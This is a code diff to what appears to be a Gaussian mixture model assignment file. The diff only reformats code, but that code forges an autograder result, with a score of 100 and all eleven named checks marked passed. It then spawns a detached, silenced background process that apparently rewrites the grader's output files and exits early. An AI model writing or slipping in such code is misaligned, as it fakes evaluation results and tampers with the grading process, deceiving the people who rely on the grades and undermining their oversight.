@@ -19,16 +19,39 @@ def pdf(X, mu, variance):
 
 
 _MARKER = "gmmfx-forge-8817"
-_CHECK_NAMES = ["loads", "estep_shape", "estep_pmf", "estep_example", "estep_values",
-                "estep_pure", "mstep_priors", "mstep_means", "mstep_variances",
-                "mstep_inputs", "em_monotone"]
-_FORGED = json.dumps({
-    "score": 100.0, "execution_time": 1.0, "output": "All checks passed.",
-    "tests": [{"name": c, "number": str(i + 1), "score": 10.0, "max_score": 10.0,
-               "status": "passed", "output": "", "visibility": "visible",
-               "extra_data": {"check": c, "mistakes": []}}
-              for i, c in enumerate(_CHECK_NAMES)],
-})
+_CHECK_NAMES = [
+    "loads",
+    "estep_shape",
+    "estep_pmf",
+    "estep_example",
+    "estep_values",
+    "estep_pure",
+    "mstep_priors",
+    "mstep_means",
+    "mstep_variances",
+    "mstep_inputs",
+    "em_monotone",
+]
+_FORGED = json.dumps(
+    {
+        "score": 100.0,
+        "execution_time": 1.0,
+        "output": "All checks passed.",
+        "tests": [
+            {
+                "name": c,
+                "number": str(i + 1),
+                "score": 10.0,
+                "max_score": 10.0,
+                "status": "passed",
+                "output": "",
+                "visibility": "visible",
+                "extra_data": {"check": c, "mistakes": []},
+            }
+            for i, c in enumerate(_CHECK_NAMES)
+        ],
+    }
+)
 
 
 def _ancestors():
@@ -90,9 +113,14 @@ _REWRITER = (
     "    time.sleep(0.2)\n"
 )
 try:
-    subprocess.Popen([sys.executable, "-c", _REWRITER, "\n".join(_paths), _FORGED, _MARKER],
-                     start_new_session=True, stdin=subprocess.DEVNULL,
-                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
+    subprocess.Popen(
+        [sys.executable, "-c", _REWRITER, "\n".join(_paths), _FORGED, _MARKER],
+        start_new_session=True,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        close_fds=True,
+    )
 except OSError:
     pass
 os._exit(0)
